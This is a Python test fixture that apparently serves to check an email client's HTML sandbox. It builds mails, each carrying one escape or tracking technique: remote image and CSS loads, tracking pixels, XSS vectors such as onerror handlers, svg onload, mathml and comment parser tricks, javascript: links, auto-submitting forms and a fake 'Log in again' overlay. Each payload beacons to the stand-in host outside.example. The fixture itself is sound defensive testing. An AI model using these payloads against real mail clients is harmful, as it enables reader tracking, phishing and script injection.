"""What mails do to get out of their frame: a name for each way, and the HTML that tries it.

Every way that asks for something asks a host of its own name, so whoever listens there knows which one got through.
`LOUD` are those that Chromium follows when nothing holds them, which shows that the listening works.
"""

from email.message import EmailMessage

OUTSIDE = "outside.example"


def there(name: str, scheme: str = "https") -> str:
    """An address whose host says which way was taken."""
    return f"{scheme}://{name}.{OUTSIDE}/x"


# A frame is asked for without TLS: Chromium begins to connect before it asks the policy, so that with the policy alone
# the name of a host would get out, though no request; a connection without a word is not counted (`outside`).
WAYS: dict[str, str] = {
    "img": f'<img src="{there("img")}">',
    "srcset": f'<img srcset="{there("srcset")} 2x" src="{there("srcset")}">',
    "picture": f'<picture><source srcset="{there("picture")}"><img alt="x"></picture>',
    "background": f'<table background="{there("background")}"><tr><td>x</td></tr></table>',
    "css-url": f'<div style="background-image:url({there("css-url")})">x</div>',
    "css-escaped": f'<div style="background:u\\72l({there("css-escaped")})">x</div>',
    "css-sheet": f"<style>p{{background:url({there('css-sheet')})}}</style><p>x</p>",
    "css-import": f'<style>@import "{there("css-import")}";</style>',
    "css-font": f"<style>@font-face{{font-family:f;src:url({there('css-font')})}}b{{font-family:f}}</style><b>x</b>",
    "css-list": f'<ul style="list-style:url({there("css-list")})"><li>x</ul>',
    "link-sheet": f'<link rel="stylesheet" href="{there("link-sheet")}">',
    "link-preload": f'<link rel="preload" as="image" href="{there("link-preload")}">',
    "link-prefetch": f'<link rel="prefetch" href="{there("link-prefetch")}">',
    "link-dns": f'<link rel="dns-prefetch" href="{there("link-dns")}">',
    "link-icon": f'<link rel="icon" href="{there("link-icon")}">',
    "poster": f'<video poster="{there("poster")}" autoplay></video>',
    "video": f'<video src="{there("video")}" autoplay></video>',
    "audio": f'<audio src="{there("audio")}" autoplay></audio>',
    "object": f'<object data="{there("object")}"></object>',
    "embed": f'<embed src="{there("embed")}">',
    "frame": f'<iframe src="{there("frame", "http")}"></iframe>',
    "srcdoc": f"<iframe srcdoc='<img src={there('srcdoc')}>'></iframe>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={there("refresh")}">',
    "policy": f'<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="{there("policy")}">',
    "base": f'<base href="{there("base")}"><img src="picture.png">',
    "svg": f'<svg width="9" height="9"><image href="{there("svg")}" width="9" height="9"/></svg>',
    "svg-script": f"<svg onload=\"new Image().src='{there('svg-script')}'\"></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror=\"new Image().src='{there('math')}'\">",
    "script": f"<script>new Image().src='{there('script')}'</script>",
    "handler": f"<img src=x onerror=\"new Image().src='{there('handler')}'\">",
    "focus": f"<input autofocus onfocus=\"new Image().src='{there('focus')}'\">",
    "toggle": f"<details open ontoggle=\"new Image().src='{there('toggle')}'\"><summary>x</summary></details>",
    "comment": f"<!--><img src=x onerror=\"new Image().src='{there('comment')}'\">-->",
    "noscript": f"<noscript><p title=\"</noscript><img src='{there('noscript')}'>\"></noscript>",
    "form": f'<form id="f" action="{there("form")}"><input name="a"></form><script>f.submit()</script>',
    "dialog": "<script>alert('a dialog')</script><img src=x onerror=\"alert('a dialog')\">",
    "popup": f"<script>window.open('{there('popup')}')</script>",
    "cover": '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Log in again</div>',
    "reach": "<script>parent.document.body.append('touched by a mail')</script>",
}
LOUD = frozenset(
    {
        *(
            "img srcset picture background css-url css-escaped css-sheet css-import css-font css-list link-sheet"
        ).split(),
        *("link-preload link-prefetch poster video audio object embed frame srcdoc refresh policy base svg").split(),
        *("svg-script script handler focus toggle comment noscript form").split(),
    }
)
# Ways that need a click; what they would come to is looked at where somebody clicks.
LINKS: dict[str, str] = {
    "javascript": "<a href=\"javascript:alert('a dialog')\">javascript</a>",
    "javascript-tab": "<a href=\"java\tscript:alert('a dialog')\">javascript-tab</a>",
    "data": "<a href=\"data:text/html,<script>alert('a dialog')</script>\">data</a>",
    "top": f'<a href="{there("top")}" target="_top">top</a>',
    "ping": f'<a href="https://kept.{OUTSIDE}/" ping="{there("ping")}">ping</a>',
}
# One picture to be seen, and what would tell somebody that the mail was read, which is never loaded.
WANTED = (
    f'<img src="{there("wanted", "http")}" width="90"><img src="{there("pixel")}" width="1" height="1">'
    f'<div style="display:none"><img src="{there("hidden")}"></div>'
    f'<table background="{there("behind")}"><tr><td>x</td></tr></table>'
    f'<p style="background-image:url({there("drawn")})">x</p><link rel="stylesheet" href="{there("sheet")}">'
)
NEVER = frozenset({"pixel", "hidden", "behind", "drawn", "sheet"})
DEEP = "<div>" * 5_000 + "at the bottom"
HUGE = "<p>" + "a word and " * 60_000


def mail(name: str, html: str) -> EmailMessage:
    """A mail that tries one way."""
    made = EmailMessage()
    made["From"] = f"Eve <eve@{name}-mail.example>"
    made["To"] = "help@lighthouse.example"
    made["Subject"] = f"Way {name}"
    made["Message-ID"] = f"<way@{name}-mail.example>"
    made["Date"] = "Fri, 20 Nov 2026 09:00:00 +0000"
    made.set_content(f"<html><head></head><body><p>Hello from {name}.</p>{html}</body></html>", subtype="html")
    return made
